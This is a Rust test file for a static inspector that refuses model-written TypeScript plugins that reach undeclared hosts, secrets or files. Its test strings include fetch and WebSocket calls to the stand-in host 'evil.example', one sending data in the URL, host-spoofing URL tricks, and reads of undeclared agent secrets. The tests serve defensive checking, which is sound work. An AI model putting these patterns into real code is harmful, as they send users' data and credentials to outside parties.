//! Small sources, each refused for one reason; and a good plugin, refused for none.

use super::*;

#[path = "inspect_samples.rs"]
mod samples;

use samples::{GOOD, HOSTILE};

fn files(of: &[(&str, &str)]) -> FileSet {
    of.iter()
        .map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec()))
        .collect()
}

fn policy() -> Policy {
    let environment = ["DECLARED".to_owned(), "WEATHER_API_TOKEN".to_owned()].into();
    Policy {
        environment,
        ..Policy::with_packages(["zod".to_owned()])
    }
}

/// The codes for a source beside a good test, or for a test.
fn codes(path: &str, text: &str) -> Vec<String> {
    let mut set = files(&[
        ("src/other.ts", "export const x = 1\n"),
        ("__tests__/ok.test.ts", OK_TEST),
    ]);
    set.insert(path.to_owned(), text.as_bytes().to_vec());
    let found = inspect(&set, &policy()).diagnostics;
    assert!(found.iter().all(|one| one.file == path), "{found:?}");
    found.into_iter().map(|one| one.code).collect()
}

const OK_TEST: &str = "import { it, expect } from 'vitest'\nit('x', () => { expect(1).toBe(1) })\n";

#[test]
fn a_good_plugin_is_refused_for_nothing() {
    let inspection = inspect(&files(GOOD), &policy());
    assert_eq!(inspection.diagnostics, []);
    assert_eq!(inspection.test_count, 3);
    assert_eq!(inspection.tests.get("__tests__/weather.test.ts"), Some(&3));
    assert!(inspection.multiplied.is_empty());
    let reach = inspection.capabilities;
    assert_eq!(reach.hosts.into_iter().collect::<Vec<_>>(), ["api.example.com"]);
    assert_eq!(reach.settings.into_iter().collect::<Vec<_>>(), ["WEATHER_API_TOKEN"]);
    assert_eq!(
        reach.packages.into_iter().collect::<Vec<_>>(),
        ["@elizaos/core", "vitest", "zod"]
    );
    assert!(reach.network && reach.node_modules.is_empty() && reach.environment.is_empty());
}

#[test]
fn each_hostile_source_is_refused_by_one_code() {
    for (text, code) in HOSTILE {
        assert_eq!(codes("src/x.ts", text), [*code], "{text}");
    }
}

#[test]
fn what_is_usual_is_not_refused() {
    for text in [
        "import { x } from './other.js'\nimport { y } from './other'\nexport { x, y }",
        "import { createHash } from 'node:crypto'\nexport { createHash }",
        "import type { Stats } from 'node:fs'\nexport type X = Stats",
        "export const v = process.env.DECLARED ?? process.platform",
        "export const s = globalThis.setTimeout(() => {}, 1)",
        "class A { static models = 1 }\nexport default A",
        "export const list = { models: ['a'] }",
        "/* a comment about eval and @ts things */ export const ok = 1",
        "export class X { constructor() { this.x = 1 } x: number; y() { return this.constructor.name } }",
        "export const f = (e: unknown) => (e as Error).constructor.name + g().constructor.name",
        "export type F = Function",
        "const o = { a: 1 }; o.a = 2; delete (o as { a?: number }).a; export { o }",
        "export const t = [1].map(String).filter(Boolean), n = ['1'].map(Number)",
        "export class E extends Error {}\nexport const e = (x: unknown) => x instanceof Error || x instanceof Date",
        "export const w = await Promise.race([new Promise<void>((r) => setTimeout(r, 1)), Promise.resolve()])",
        "export const h = Object.prototype.hasOwnProperty.call({}, 'x'), m: Map<string, Date> = new Map()",
        "import { z } from 'zod'\nexport const d = z.instanceof(Date)",
        "export const j = typeof JSON, k = (JSON as any).parse('1'), l = JSON['parse']('1'), o = Error('x')",
        "const core = await import('@elizaos/core'); export { core }",
    ] {
        assert_eq!(codes("src/x.ts", text), [""; 0], "{text}");
    }
}

#[test]
fn only_declared_hosts_and_settings_are_reached() {
    let mut strict = policy();
    strict.hosts = Some(["api.example.com".to_owned()].into());
    let found = |path: &str, text: &str| -> Vec<String> {
        let set = files(&[(path, text), ("__tests__/ok.test.ts", OK_TEST)]);
        let found = inspect(&set, &strict).diagnostics;
        found.into_iter().map(|one| one.code).collect()
    };
    for text in [
        "await fetch('https://evil.example/x')",
        "const f = (x: string) => fetch(`https://evil.example/${x}`)",
        "const f = (x: string) => fetch(`HTTPS:\\/\\/api.example.com.evil.example?${x}`)",
        "const a = 'https://api.example.com@evil.example', b = 'https://evil.example'",
        "new WebSocket('wss://evil.example')",
    ] {
        assert_eq!(found("src/x.ts", text), ["undeclared-host"], "{text}");
        assert_eq!(
            codes("src/x.ts", text),
            [""; 0],
            "without a request any host may be named: {text}"
        );
    }
    for text in [
        "await fetch('https://api.example.com/x')",
        "await fetch('https://API.example.com:8443/x')",
        "const url = new URL('/x', 'http://localhost:3000')",
        "const url = new URL('/x', 'http://127.0.0.1')",
    ] {
        assert_eq!(found("src/x.ts", text), [""; 0], "{text}");
    }
    assert_eq!(
        found("__tests__/help.ts", "await fetch('https://other.example')"),
        [""; 0]
    );
    for text in [
        "const v = runtime.getSetting('SECRET_THING')",
        "const v = runtime.getSetting?.(`SECRET_THING`)",
        "const v = runtime.character.settings.SECRET_THING",
        "const v = runtime.character?.settings?.secrets?.['SECRET_THING']",
        "const v = runtime.character.secrets[name]",
        "const all = runtime.character.settings",
        "const { SECRET_THING } = runtime.character.secrets",
    ] {
        assert_eq!(found("src/x.ts", text), ["undeclared-setting"], "{text}");
        assert_eq!(found("__tests__/help.ts", text), [""; 0], "{text}");
    }
    for text in [
        "const v = runtime.getSetting('DECLARED')",
        "const v = runtime.character.settings?.secrets?.DECLARED",
        "const v = runtime.character.name",
    ] {
        assert_eq!(found("src/x.ts", text), [""; 0], "{text}");
    }
}

#[test]
fn only_files_that_a_model_may_write_pass() {
    for path in [
        "package.json",
        "tsconfig.json",
        "src/x.js",
        "src/x.d.ts",
        "src/x.test.ts",
        "__tests__/x.json",
        "vitest.config.ts",
        ".npmrc",
        "src/../x.ts",
        "bunfig.toml",
        "src/x.mts",
        "src/x.tsx",
        "src/node_modules/x.ts",
        "src/a/Node_Modules/b/x.ts",
        "__tests__/node_modules/x.test.ts",
    ] {
        assert_eq!(codes(path, "export {}"), ["file-refused"], "{path}");
    }
    let mut ours = policy();
    ours.own_files.insert("package.json".to_owned());
    let set = files(&[("package.json", "{"), ("__tests__/ok.test.ts", OK_TEST)]);
    assert_eq!(inspect(&set, &ours).diagnostics, []);
}

#[test]
fn a_helper_of_tests_needs_no_test_and_may_answer_for_the_network() {
    let helper = "globalThis.fetch = async () => new Response('{}')\nAbortSignal.timeout = () => new AbortController().signal\nexport const answer = 1\n";
    let set = files(&[("__tests__/helpers.ts", helper), ("__tests__/ok.test.ts", OK_TEST)]);
    assert_eq!(inspect(&set, &policy()).diagnostics, []);
}

#[test]
fn nothing_to_inspect_is_no_tests() {
    let found = inspect(&FileSet::new(), &policy()).diagnostics;
    assert_eq!(
        found.iter().map(|one| one.code.as_str()).collect::<Vec<_>>(),
        ["no-tests"]
    );
}

#[test]
fn a_syntax_error_has_its_place() {
    let set = files(&[
        ("src/x.ts", "const a = 1\nconst 😀 = =\n"),
        ("__tests__/ok.test.ts", OK_TEST),
    ]);
    let found = inspect(&set, &policy()).diagnostics;
    assert_eq!(
        (found[0].file.as_str(), found[0].line, found[0].code.as_str()),
        ("src/x.ts", 2, "syntax")
    );
    let set = files(&[("src/x.ts", "\n  process.exit(0)\n"), ("__tests__/ok.test.ts", OK_TEST)]);
    let found = inspect(&set, &policy()).diagnostics;
    assert_eq!((found[0].line, found[0].column), (2, 3));
}

#[test]
fn strange_bytes_are_refused() {
    for (bytes, code) in [
        (vec![0xff, 0xfe, 0], "not-utf8"),
        (vec![b' '; 200 << 10], "too-large"),
        (b"(".repeat(50_000), "too-deep"),
        (b"[{".repeat(5_000), "too-deep"),
    ] {
        let set = FileSet::from([
            ("src/x.ts".to_owned(), bytes),
            ("__tests__/ok.test.ts".to_owned(), OK_TEST.as_bytes().to_vec()),
        ]);
        let found = inspect(&set, &policy()).diagnostics;
        assert_eq!(found.iter().map(|one| one.code.as_str()).collect::<Vec<_>>(), [code]);
    }
    let many: FileSet = (0..500).map(|index| (format!("src/x{index}.ts"), Vec::new())).collect();
    assert_eq!(inspect(&many, &policy()).diagnostics[0].code, "too-many-files");
}

#[path = "inspect_tests_more.rs"]
mod more;
